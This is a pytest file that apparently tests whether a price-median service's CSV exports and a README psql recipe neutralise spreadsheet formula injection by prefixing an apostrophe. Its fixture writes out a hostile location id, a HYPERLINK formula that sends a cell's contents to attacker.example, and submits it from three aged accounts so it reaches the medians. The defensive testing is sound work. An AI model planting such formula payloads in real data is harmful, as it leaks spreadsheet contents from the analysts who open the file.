"""CSV cannot carry spreadsheet formulas.

A location id is chosen by whoever reports it. One such as =HYPERLINK("http://…"&A1,"open"), reported by
three mature identities, reaches the medians, and from there the API's `Accept: text/csv` answers and the
analysts' `\\copy … csv` recipe in the README. Both neutralise a field starting with = + - @ tab or CR by
prefixing ' (OWASP's rule), so a spreadsheet shows it as text."""

from __future__ import annotations

import csv
import io
import re
import uuid
from pathlib import Path

import pytest

from helpers import report

README = Path(__file__).resolve().parents[2] / "README.md"


@pytest.fixture(scope="module")
def formula_location(server, anon_key, db):
    """Three aged reporters at a location whose id is a formula (unique per run)."""
    from helpers import Api
    api = Api(server.url, anon_key)
    loc = f'=HYPERLINK("http://attacker.example/?"&A1,"open {uuid.uuid4().hex[:8]}")'
    sessions = [api.new_session() for _ in range(3)]
    db.age_users([s["user"]["id"] for s in sessions])
    for index, session in enumerate(sessions):
        response = api.submit([report(loc, 400 + 100 * index)], session["access_token"])
        assert response.status_code == 201, response.text
    return {"location": loc, "api": api, "token": sessions[0]["access_token"]}


def test_a_csv_answer_neutralises_a_field_that_starts_a_formula(formula_location):
    api, loc = formula_location["api"], formula_location["location"]
    response = api.post("/rest/v1/rpc/price_medians", token=formula_location["token"],
                        json_body={"location_ids": [loc], "rate_kind": "hourly"}, headers={"Accept": "text/csv"})
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv"), response.text
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][0] == "location_id" and len(rows) == 2, rows
    assert rows[1][0] == "'" + loc, rows
    assert rows[1][3] == "500", rows  # the median itself is unchanged
    # No line of the answer starts a cell with a formula character.
    assert not re.search(r'(^|,)"?[=+\-@]', response.text.split("\n", 1)[1]), response.text
    # JSON answers are data, not sheets: unchanged.
    plain = api.medians([loc], formula_location["token"], rate_kind="hourly")
    assert [r["location_id"] for r in plain] == [loc]


def test_the_readme_analyst_csv_recipe_neutralises_it_too(formula_location, db):
    text = README.read_text()
    match = re.search(r'\\copy \((select .*?)\) to \'medians\.csv\' with \(format csv, header\)', text, re.DOTALL)
    assert match, "the README's \\copy recipe"
    query = match.group(1)
    out = db.psql(f"set role price_analyst; copy ({query}) to stdout with (format csv, header)")
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["location_id", "rate_kind", "currency", "median_cents", "reporters", "reports", "last_reported_at"]
    found = [row for row in rows[1:] if row[0].endswith(formula_location["location"])]
    assert [row[0] for row in found] == ["'" + formula_location["location"]], found
    assert not any(re.match(r"[=+\-@\t\r]", row[0]) for row in rows[1:]), rows
